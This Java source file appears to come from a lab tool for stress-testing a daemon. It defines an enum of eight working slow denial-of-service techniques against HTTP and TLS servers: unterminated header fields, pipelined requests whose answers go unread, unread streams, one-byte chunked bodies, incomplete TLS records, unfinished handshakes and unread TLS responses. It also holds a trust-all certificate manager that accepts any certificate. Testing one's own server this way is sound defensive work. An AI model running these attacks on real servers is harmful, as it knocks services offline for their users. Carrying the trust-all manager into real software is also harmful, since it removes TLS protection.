package io.aliasdefender.lab;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.Collections;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Ways to make a server hold much for little that is sent. */
enum WebAttack {
    HEADS("heads of many fields that do not end") {
        @Override
        byte[] begin() {
            return bytes("GET /api/status HTTP/1.1\r\nHost: localhost\r\n" + FIELDS);
        }

        @Override
        byte[] more() {
            return bytes("a:b\r\n");
        }
    },
    AHEAD("requests sent ahead, no answer read") {
        @Override
        byte[] begin() {
            return bytes(String.join("", Collections.nCopies(200, "GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")));
        }

        @Override
        byte[] more() {
            return bytes("GET /api/status HTTP/1.1\r\nHost: localhost\r\n\r\n");
        }
    },
    STREAMS("streams with ?since=0 that are not read") {
        @Override
        byte[] begin() {
            return bytes("GET /api/events/stream?since=0" + PARAMETERS + " HTTP/1.1\r\nHost: localhost\r\n\r\n");
        }

        @Override
        byte[] more() {
            return bytes("\r\n");
        }
    },
    ANSWERS("long answers that are not read") {
        @Override
        byte[] begin() {
            return bytes("GET /api/events?merged=true HTTP/1.1\r\nHost: localhost\r\n\r\n");
        }
    },
    BODIES("bodies that trickle, in chunks of a byte") {
        @Override
        byte[] begin() {
            return bytes(
                    "POST /api/reload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n" + FIELDS + "\r\n");
        }

        @Override
        byte[] more() {
            return bytes("1\r\na\r\n");
        }
    },
    RECORDS("TLS records that do not come to their end", true) {
        @Override
        byte[] begin() {
            byte[] record = new byte[16_000];
            record[0] = 22;
            record[1] = 3;
            record[2] = 1;
            record[3] = 0x40;
            return record;
        }
    },
    HANDSHAKES("TLS handshakes that are not finished", true) {
        @Override
        byte[] begin() throws GeneralSecurityException, IOException {
            SSLEngine engine = trustingAll().createSSLEngine();
            engine.setUseClientMode(true);
            ByteBuffer hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
            engine.wrap(ByteBuffer.allocate(0), hello);
            byte[] bytes = new byte[hello.flip().remaining()];
            hello.get(bytes);
            return bytes;
        }
    },
    SECURED("long answers by TLS that are not read", true) {
        @Override
        void start(SocketChannel channel, InetSocketAddress web) throws IOException, GeneralSecurityException {
            Socket plain = channel.socket();
            plain.setSoTimeout(TIMEOUT_MILLIS);
            SSLSocket secured = (SSLSocket)
                    trustingAll().getSocketFactory().createSocket(plain, web.getHostString(), web.getPort(), false);
            secured.startHandshake();
            secured.getOutputStream().write(bytes("GET /metrics HTTP/1.1\r\nHost: localhost\r\n" + FIELDS + "\r\n"));
            channel.configureBlocking(false);
        }
    };

    private static final int TIMEOUT_MILLIS = 5_000;
    private static final int RECEIVE_BUFFER_BYTES = 2_304;
    private static final String FIELDS = fields();
    private static final String PARAMETERS = String.join("", Collections.nCopies(70, "&a=b"));

    private final String words;

    private final boolean tls;

    WebAttack(String words) {
        this(words, false);
    }

    WebAttack(String words, boolean tls) {
        this.words = words;
        this.tls = tls;
    }

    /** What a connection says first. */
    byte[] begin() throws GeneralSecurityException, IOException {
        return new byte[0];
    }

    /** What it says every other second. */
    byte[] more() {
        return new byte[0];
    }

    boolean isForTls() {
        return tls;
    }

    /** One connection, which is not blocking from now on. */
    final SocketChannel open(InetSocketAddress web, InetAddress from) throws IOException, GeneralSecurityException {
        SocketChannel channel = SocketChannel.open();
        try {
            channel.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER_BYTES);
            channel.bind(new InetSocketAddress(from, 0));
            channel.socket().connect(web, TIMEOUT_MILLIS);
            start(channel, web);
            return channel;
        } catch (IOException | GeneralSecurityException full) {
            channel.close();
            throw full;
        }
    }

    /** {@link LabException} when this cannot be done to that server at all. */
    void tryOnce(InetSocketAddress web) throws IOException {
        try {
            open(web, InetAddress.getLoopbackAddress()).close();
        } catch (SSLException | GeneralSecurityException otherwise) {
            throw new LabException(
                    "the daemon does not serve by TLS (" + otherwise.getMessage() + "); leave --tls out", otherwise);
        }
    }

    /** What it says at once. */
    void start(SocketChannel channel, InetSocketAddress web) throws IOException, GeneralSecurityException {
        channel.configureBlocking(false);
        channel.write(ByteBuffer.wrap(begin()));
    }

    /** As many as are allowed, each as long as they may be together. */
    private static String fields() {
        StringBuilder fields = new StringBuilder();
        for (int i = 0; i < 58; i++) {
            fields.append("a").append(i).append(": ").append("v".repeat(56)).append("\r\n");
        }
        return fields.toString();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static SSLContext trustingAll() throws GeneralSecurityException {
        return Trusting.ALL;
    }

    /** Whoever attacks does not care who is attacked. */
    private static final class Trusting implements X509TrustManager {
        private static final SSLContext ALL = context();

        private static SSLContext context() {
            try {
                SSLContext context = SSLContext.getInstance("TLS");
                context.init(null, new TrustManager[] {new Trusting()}, null);
                return context;
            } catch (GeneralSecurityException impossible) {
                throw new LabException("there is no TLS here: " + impossible.getMessage(), impossible);
            }
        }

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }

    @Override
    public String toString() {
        return words;
    }
}
